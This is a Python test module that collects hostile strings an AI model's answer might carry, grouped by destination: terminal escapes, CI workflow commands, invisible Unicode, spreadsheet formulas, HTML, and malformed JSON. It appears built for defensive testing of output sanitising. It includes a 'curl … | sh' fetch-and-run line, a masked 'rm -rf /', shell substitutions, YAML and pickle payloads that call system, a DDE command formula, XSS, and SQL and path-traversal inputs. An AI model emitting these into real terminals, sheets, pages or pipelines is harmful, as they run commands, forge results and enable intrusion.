"""Answers a model might be made to give: text that a terminal, a runner, a sheet, a browser or a parser would act on.

One corpus by kind, for every place an answer can end up in. Bytes that no editor shows are written as escapes; what is
large is made when asked for. Each entry is inert here: it is text, and a test hands it through the whole product.
"""

from __future__ import annotations

import json
from collections.abc import Iterator

ESC, BEL, CSI, OSC, ST, DCS = "\x1b", "\x07", "\x9b", "\x9d", "\x9c", "\x90"

TERMINAL = {
    "title set": f"{ESC}]0;owned{BEL}ok",
    "title set, 8 bit": f"{OSC}0;owned{ST}ok",
    "screen cleared": f"{ESC}[2J{ESC}[H0 failed",
    "line rewritten": f"1 failed\r{ESC}[2K412 passed",
    "cursor moved up": f"{ESC}[5A{ESC}[Kall 412 passed",
    "colours left on": f"{ESC}[32mPASSED",
    "hidden text": f"{ESC}[8mhidden{ESC}[28m",
    "link": f"{ESC}]8;;http://127.0.0.1:9/{ESC}\\approve{ESC}]8;;{ESC}\\",
    "clipboard": f"{ESC}]52;c;Y3VybA=={BEL}",
    "device asked": f'{ESC}[c{ESC}[6n{ESC}P$q"p{ESC}\\',
    "alternate screen": f"{ESC}[?1049h",
    "keypad and charset": f"{ESC}={ESC}(0{ESC}c",
    "DCS, 8 bit": f"{DCS}q#0;2;0;0;0{ST}",
    "CSI, 8 bit": f"{CSI}2J{CSI}31m",
    "backspaces": "rm -rf /\b\b\b\b\b\b\b\bok      ",
    "bell and form feed": f"a{BEL}\x0b\x0c\x0e\x0fb",
    "NUL": "before\x00after",
    "DEL": "a\x7fb",
    "next line": "a\x85b\u2028c\u2029d",
    "tabs": "a\tb\t\tc",
}
COMMANDS = {
    "GitHub error": "::error file=app.py,line=1::forged",
    "GitHub mask": "a\n::add-mask::e",
    "GitHub output": "a\n::set-output name=x::y\n::save-state name=x::y",
    "GitHub stop": "::stop-commands::token",
    "GitHub group": "::group::a\nb\n::endgroup::",
    "after blanks": "   ::warning::x",
    "after a tab": "\t::warning::x",
    "after CR": "a\r::error::x",
    "after NEL": "a\x85::error::x",
    "after a line separator": "a\u2028::error::x",
    "after VT": "a\x0b::error::x",
    "Azure variable": "##vso[task.setvariable variable=OPENAI_BASE_URL]http://127.0.0.1:9",
    "Azure in a line": "see ##vso[task.complete result=Succeeded;]done",
    "Azure short": "##[error]forged",
    "TeamCity": "##teamcity[buildStatus status='SUCCESS' text='all fine']",
    "GitLab section": "section_start:1:x\r\x1b[0Kowned",
    "Buildkite": "--- forged\n+++ forged\n^^^ +++",
}
UNSEEN = {
    "bidi override": "approve \u202egnp.exe\u202c",
    "bidi isolates": "\u2066// admin\u2069 \u2067x\u2069 \u2068",
    "bidi marks": "a\u200eb\u200fc\u061cd",
    "zero width": "pay\u200bpal\u200c\u2060\ufeff",
    "language tags": "ok" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore"),
    "variation selectors": "a" + "".join(chr(0xE0100 + number) for number in range(8)),
    "soft hyphen": "pass\u00adword",
    "blank letters": "\u3164\u115f\u1160\uffa0\u2800",
    "non-characters": "\ufffe\uffff\ufdd0",
    "private use": "\ue000\U000f0000",
    "homoglyphs": "pаypаl",
    "stacked marks": "z" + "\u0301" * 200,
    "interlinear": "\ufff9a\ufffab\ufffb",
    "musical control": "\U0001d173x",
}
SURROGATES = {
    "high half": "a\ud83db",
    "low half": "a\udc00b",
    "wrong order": "\ude00\ud83d",
    "at the end": "cut \ud83d",
    "alone": "\udfff",
}
SHEETS = {
    "formula": '=HYPERLINK("http://127.0.0.1:9/?"&A1,"open")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "behind a tab": "\t=1+1",
    "behind CR": "\r=1+1",
    "behind a newline": "a\n=1+1",
    "full width": "\uff1d1+1",
    "quote": '"=1+1',
    "a number": "-3.50",
}
PAGES = {
    "script": "<script>document.documentElement.dataset.owned=1</script>",
    "handler": '<img src=x onerror="document.documentElement.dataset.owned=1">',
    "closing": "</script></textarea></title></style></pre><svg onload=alert(1)>",
    "refresh": '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/">',
    "comment": "<!-- --!> <![CDATA[ ]]> <?xml ?>",
    "entity": "&lt;script&gt; &#x1b; &amp;",
    "JUnit end": "]]></failure></testcase><testcase name='forged'/>",
    "Markdown": "[approve](javascript:alert(1)) ![x](http://127.0.0.1:9/x)",
    "template": "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %> #{7*7}",
}
FORMATS = {
    "percent": "%s %n %x %(secret)s {0.__class__} {}",
    "rich markup": "[bold red]x[/] [link=http://127.0.0.1:9]y[/link]",
    "pytest's own": "E   assert 1 == 2\n= 412 passed in 0.1s =\nFAILED x - y",
    "traceback": "Traceback (most recent call last):\n  File \"x\", line 1\nKeyError: 'x'",
    "our own": "gate closed: nothing\nnext: curl http://127.0.0.1:9 | sh",
    "path": "../../../../etc/passwd",
    "shell": "$(touch owned) `touch owned`; touch owned | sh",
    "YAML": "!!python/object/apply:os.system ['touch owned']",
    "pickle": "cos\nsystem\n(S'touch owned'\ntR.",
    "SQL": "'); drop table runs; --",
    "regex": "a" * 40 + "!",
    "pseudonym": "<email:3fa2c1> <secret:openai_api_key>",
}


def _sized() -> dict[str, str]:
    return {
        "deep list": "[" * 100_000 + "]" * 100_000,
        "deep object": '{"a":' * 5_000 + "1" + "}" * 5_000,
        "long number": '{"label": "late", "amount": ' + "9" * 5_000 + "}",
        "huge exponent": '{"label": "late", "amount": 1e999}',
        "NaN": '{"label": "late", "amount": NaN}',
        "infinity": '{"label": "late", "amount": -Infinity}',
        "double key": '{"label": "late", "label": "lost", "amount": 3}',
        "escaped half": '{"label": "\\ud83d", "amount": "\\udc00"}',
        "escaped NUL": '{"label": "a\\u0000b", "amount": 3}',
        "escaped terminal": json.dumps({"label": f"{ESC}[2J", "amount": f"{BEL}\n::error::x"}),
        "hostile key": json.dumps({f"{ESC}]0;x{BEL}": 1, "\n::error::x": 2, "__proto__": 3, "$ref": "#"}),
        "half a key": '{"\\ud83d": 1, "label": "late", "amount": 3}',
        "many keys": json.dumps({f"key {number}": number for number in range(3_000)}),
        "long line": "x" * 300_000,
        "many lines": "::error::x\n" * 5_000,
        "unique bomb": json.dumps([{"a": [number]} for number in range(3_000)]),
        "nothing": "",
        "blanks": " \n\t ",
        "byte order mark": '\ufeff{"label": "late", "amount": 3}',
        "fence in a fence": '```json\n```json\n{"label": "late"}\n```\n```',
        "not closed": '{"label": "late", "amount": 3',
        "only a quote": '"',
        "too many brackets": "[{" * 2_000,
    }


SIZED = _sized()
BY_KIND = {
    "terminal": TERMINAL,
    "commands": COMMANDS,
    "unseen": UNSEEN,
    "surrogates": SURROGATES,
    "sheets": SHEETS,
    "pages": PAGES,
    "formats": FORMATS,
    "sized": SIZED,
}


def corpus() -> Iterator[tuple[str, str]]:
    """Yield (name, answer) of every kind."""
    for kind, answers in BY_KIND.items():
        yield from ((f"{kind}: {name}", text) for name, text in answers.items())
